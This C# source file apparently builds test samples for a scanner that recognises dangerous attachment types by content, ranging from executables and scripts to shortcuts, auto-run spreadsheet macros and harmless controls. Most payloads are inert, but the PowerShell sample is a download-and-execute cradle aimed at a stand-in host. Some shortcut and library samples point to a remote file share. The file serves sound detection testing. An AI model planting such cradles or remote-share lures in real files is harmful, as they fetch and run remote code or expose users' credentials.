using System.Text;
using Made = Sekisho.SampleMaker.Samples;

namespace Sekisho.SampleMaker.Catalogue;

/// <summary>Programs, scripts and what starts them, told by content: the name says nothing.</summary>
internal static class Types
{
    private const string Neutral = "paper.dat";
    private const string JScript = "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar run = function() { shell.Run(\"harmless\"); };\r\nrun();\r\n";
    private const string VbScript = "Dim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nshell.Run(\"harmless\")\r\nWScript.Quit\r\n";

    public static IReadOnlyList<Sample> Samples { get; } =
    [
        Sample.Attached("pe", "A Windows program", Neutral, Made.Program),
        Sample.Attached("scr", "A Windows program named as a screen saver", "family.scr", Made.Program),
        Sample.Attached("elf", "A Unix program", Neutral, () => [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[100]]),
        Sample.Attached("mach-o", "A macOS program", Neutral, () => [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, .. new byte[100]]),
        Sample.Attached("mach-o-fat", "A macOS program for two processors", Neutral, () => [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2, .. new byte[100]]),
        Sample.Attached("msi", "A Windows installer package", Neutral, () => new CompoundFileWriter { ClassId = new Guid("000C1084-0000-0000-C000-000000000046") }.Add("Table", new byte[100]).ToArray()),
        Sample.Attached("xll", "An Excel add-in library, told by what it exports", Neutral, () => Made.Library("xlAutoOpen")),
        Sample.Attached("js", "JScript under a neutral name", Neutral, JScript),
        Sample.Attached("js-utf-16", "JScript in UTF-16", Neutral, () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(JScript)]),
        Sample.Attached("jse", "Encoded JScript, decoded", "paper.jse", OddLetters.EncodedScript),
        Sample.Attached("vbs", "VBScript under a neutral name", Neutral, VbScript),
        Sample.Attached("vbe", "An encoded script with the name of VBScript, decoded", "paper.vbe", OddLetters.EncodedScript),
        Sample.Attached("wsf", "A Windows script file with an encoded script in it", Neutral, $"<job><script language=\"JScript.Encode\">{OddLetters.EncodedScript}</script></job>"),
        Sample.Attached("hta", "An HTML application", Neutral, "<html><head><hta:application id=\"x\"></head><script>new ActiveXObject('WScript.Shell')</script></html>"),
        Sample.Attached("bat", "A batch file under a neutral name", Neutral, "@echo off\r\necho harmless\r\n"),
        Sample.Attached("cmd", "A batch file by its other name", "paper.cmd", "@echo off\r\necho harmless\r\n"),
        Sample.Attached("ps1", "PowerShell under a neutral name", Neutral, "$c = New-Object System.Net.WebClient\r\nInvoke-Expression $c.DownloadString('http://host.example/a')\r\n"),
        Sample.Attached("jar", "A Java archive under a neutral name", Neutral, () => ZipWriter.Plain(("META-INF/MANIFEST.MF", "Main-Class: A\r\n"u8.ToArray()), ("A.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, .. new byte[20]]))),
        Sample.Attached("java-class", "A compiled Java class", Neutral, () => [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, .. new byte[20]]),
        Sample.Attached("chm", "Compiled HTML help", Neutral, () => [.. "ITSF"u8, 3, 0, 0, 0, .. new byte[100]]),
        Sample.Attached("lnk", "A Windows shortcut under a neutral name", Neutral, () => CarrierWriter.Shortcut(@"C:\Windows\System32\cmd.exe", "/c echo harmless")),
        Sample.Attached("url", "An Internet shortcut to a file share", Neutral, "[InternetShortcut]\r\nURL=file://192.0.2.7/share/paper.exe\r\n"),
        Sample.Attached("url-to-the-web", "An Internet shortcut to a page", "paper.url", "[InternetShortcut]\r\nURL=https://host.example/\r\n"),
        Sample.Attached("iqy", "An Excel web query", "paper.iqy", "WEB\r\n1\r\nhttps://host.example/query\r\n"),
        Sample.Attached("slk", "A sheet as text with a macro that starts by itself", "paper.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"harmless\")\r\nC;X1;Y102;EHALT()\r\nE\r\n"),
        Sample.Attached("setting-content-ms", "A settings shortcut that starts a program", Neutral, "<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>cmd.exe /c echo harmless</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"),
        Sample.Attached("library-ms", "A library whose folder lies on a foreign host", Neutral, "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"),
        Sample.Attached("honest-picture", "A picture; nothing is wrong", "photo.jpg", () => [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF"u8, 0, .. new byte[200], 0xFF, 0xD9]),
        Sample.Attached("honest-text", "A text that talks about scripts; nothing is wrong", "minutes.txt", "議事録\r\n会議では、WScript の CreateObject を使わないことに決まった。\r\n"),
        Sample.Attached("honest-workbook", "A workbook without macros; nothing is wrong", "list.xlsx", () => OoxmlWriter.Workbook()),
        Sample.Attached("honest-document", "A document without macros; nothing is wrong", "paper.docx", () => OoxmlWriter.Document()),
        Sample.Attached("honest-old-document", "A Word 97 document without macros; nothing is wrong", "paper.doc", () => Made.OldDocument()),
    ];
}
